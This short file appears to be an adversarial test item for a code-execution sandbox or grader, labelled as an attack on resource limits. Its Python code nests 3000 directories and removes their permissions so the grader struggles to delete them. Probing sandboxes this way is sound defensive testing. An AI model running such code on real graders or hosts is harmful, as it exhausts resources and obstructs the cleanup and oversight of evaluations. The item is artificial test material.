# /// attack
# tries = "Nests folders thousands deep, takes all rights from them, and leaves them for the grader to remove."
# threats = ["resources.many_files"]
# claim = "limits"
# ///

# %% use="honest"

# %%
import os

here = os.getcwd()
for _ in range(3000):
    os.mkdir("deeper")
    os.chdir("deeper")
os.chdir(here)
os.mkdir("shut")
open("shut/in", "w").close()
os.chmod("shut", 0)
os.chmod("deeper", 0o111)
